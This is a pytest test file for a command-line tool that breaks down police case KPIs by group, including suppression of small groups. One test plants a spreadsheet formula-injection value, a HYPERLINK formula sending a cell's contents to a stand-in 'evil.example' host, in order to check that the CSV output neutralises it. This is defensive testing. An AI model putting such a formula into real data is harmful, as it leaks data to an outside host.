"""``python -m metrics breakdown``: the Trends page's breakdowns from the command line."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from metrics.__main__ import main
from metrics.breakdowns import compute_breakdown
from metrics.kpis import compute_kpis
from metrics.load import load_dataset

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample"
COLUMNS = ["kpi_id", "force", "group", "value", "numerator", "denominator", "n", "ci_low",
           "ci_high", "status"]
DURHAM = "Durham Constabulary"
WINDOW = ["--from", "2024-10", "--to", "2025-09"]


@pytest.fixture(scope="module")
def dataset():
    return load_dataset(SAMPLE)


def cli(capsys, *args: str) -> tuple[int, str, str]:
    try:
        code = main(["breakdown", *args])
    except SystemExit as exc:  # argparse
        code = int(exc.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def csv(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), keep_default_na=False, na_values=[""])


def test_internal_rows_are_the_engines_breakdown_and_add_up_to_the_force(capsys, dataset):
    code, out, err = cli(capsys, str(SAMPLE), "--kpi", "charge_rate", "--by", "victim_sex",
                         *WINDOW, "--force", DURHAM)
    assert code == 0, err
    table = csv(out)
    assert list(table.columns) == COLUMNS
    expected = compute_breakdown(dataset, "2024-10", "2025-09", "victim_sex", force=DURHAM,
                                 kpi_ids=["charge_rate"])
    assert table["group"].tolist() == expected["group"].tolist()
    assert table["numerator"].tolist() == expected["numerator"].tolist()
    assert table["denominator"].tolist() == expected["denominator"].tolist()
    whole = compute_kpis(dataset, "2024-10", "2025-09", forces=[DURHAM], kpi_ids=["charge_rate"])
    # The groups partition the force's cases (a "Not recorded" group included).
    assert table["denominator"].sum() == whole["denominator"].iloc[0]
    assert table["numerator"].sum() == whole["numerator"].iloc[0]
    assert (table["force"] == DURHAM).all() and (table["kpi_id"] == "charge_rate").all()
    ok = table["status"] == "ok"
    assert ok.any()
    assert (table.loc[ok, "value"] - table.loc[ok, "numerator"] / table.loc[ok, "denominator"]
            ).abs().max() < 1e-12
    assert table.loc[~ok, "value"].isna().all()


def test_default_force_is_all_forces_and_json_has_the_same_rows(capsys):
    code, out, err = cli(capsys, str(SAMPLE), "--kpi", "days_to_charge", "--by",
                         "offence_group", *WINDOW)
    assert code == 0, err
    as_csv = csv(out)
    assert (as_csv["force"] == "All forces").all()
    code, out, err = cli(capsys, str(SAMPLE), "--kpi", "days_to_charge", "--by",
                         "offence_group", *WINDOW, "--format", "json")
    assert code == 0, err
    rows = json.loads(out)
    assert [list(r) for r in rows] == [COLUMNS] * len(rows)
    assert [r["group"] for r in rows] == as_csv["group"].tolist()
    assert [r["n"] for r in rows] == as_csv["n"].tolist()
    assert all(r["numerator"] is None for r in rows)  # a median has no numerator


def test_panel_hides_small_groups_rounds_the_rest_and_hides_a_complement(capsys):
    args = [str(SAMPLE), "--kpi", "early_advice_days", "--by", "victim_sex", *WINDOW,
            "--force", DURHAM]
    code, out, _ = cli(capsys, *args)
    internal = csv(out).set_index("group")
    code, out, err = cli(capsys, *args, "--audience", "panel")
    assert code == 0, err
    assert list(csv(out).columns) == COLUMNS
    panel = csv(out).set_index("group")
    small = internal["n"].between(1, 7)
    assert small.any(), "the sample should hold a small group here"
    assert panel.loc[small, "n"].isna().all()
    assert (panel.loc[small, "status"] == "suppressed").all()
    # One small group alone would follow from the force's n: at least two are hidden.
    assert panel["n"].isna().sum() >= 2
    shown = panel["n"].dropna()
    assert (shown % 5 == 0).all() and not shown.between(1, 7).any()
    ok = panel["status"] == "ok"
    assert (panel.loc[ok, "value"] % 1 == 0).all()  # medians in whole days


def test_scope_is_passed_to_the_engine(capsys):
    base = [str(SAMPLE), "--kpi", "charge_rate", "--by", "victim_age_band", *WINDOW]
    code, out, err = cli(capsys, *base)
    assert code == 0, err
    everyone = csv(out).set_index("group")["denominator"]
    code, out, err = cli(capsys, *base, "--scope", "child")
    assert code == 0, err
    children = csv(out).set_index("group")["denominator"]
    assert children.sum() < everyone.sum()
    common = children.index.intersection(everyone.index)
    assert (children[common] <= everyone[common]).all()


@pytest.mark.parametrize("args,words", [
    (["--kpi", "no_such_kpi", "--by", "team", *WINDOW], "unknown KPI"),
    (["--kpi", "orders_granted", "--by", "team", *WINDOW], "cannot be broken down"),
    (["--kpi", "charge_rate", "--by", "postcode", *WINDOW], "invalid choice"),
    (["--kpi", "charge_rate", "--by", "team", "--from", "2025-13", "--to", "2025-12"], "month"),
    (["--kpi", "charge_rate", "--by", "team", "--from", "2025-09", "--to", "2025-01"], "after"),
    (["--kpi", "charge_rate", "--by", "team", *WINDOW, "--force", "Nowhere Police"],
     "unknown force"),
    (["--kpi", "charge_rate", "--by", "team", *WINDOW, "--scope", "everyone"], "invalid choice"),
    (["--kpi", "charge_rate", *WINDOW], "required"),
])
def test_bad_arguments_are_one_line_and_exit_2(capsys, args, words):
    code, out, err = cli(capsys, str(SAMPLE), *args)
    assert code == 2
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:") and words in lines[0], err


def test_unreadable_folder_and_unusable_export(capsys, tmp_path):
    code, _, err = cli(capsys, str(tmp_path / "missing"), "--kpi", "charge_rate", "--by",
                       "team", *WINDOW)
    assert code == 2 and len(err.strip().splitlines()) == 1
    broken = tmp_path / "broken"
    shutil.copytree(SAMPLE, broken)
    (broken / "cases.parquet").write_bytes(b"not a parquet file")
    code, out, err = cli(capsys, str(broken), "--kpi", "charge_rate", "--by", "team", *WINDOW)
    assert code == 1 and out == ""
    assert "not usable" in err and "Traceback" not in err


def test_a_formula_in_a_team_name_is_neutralised_in_the_csv(capsys, tmp_path):
    export = tmp_path / "export"
    shutil.copytree(SAMPLE, export)
    cases = pq.read_table(export / "cases.parquet").to_pandas()
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    first = cases["team"].dropna().iloc[0]
    cases["team"] = cases["team"].astype(object).replace(first, evil)
    cases.to_parquet(export / "cases.parquet", index=False)
    code, out, err = cli(capsys, str(export), "--kpi", "charge_rate", "--by", "team", *WINDOW)
    assert code == 0, err
    groups = csv(out)["group"].tolist()
    assert evil not in groups and ("'" + evil) in groups


def test_no_traceback_when_run_as_a_program():
    done = subprocess.run(
        [sys.executable, "-m", "metrics", "breakdown", str(SAMPLE), "--kpi", "charge_rate",
         "--by", "team", "--from", "2025-02", "--to", "2025-01"],
        cwd=ROOT, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
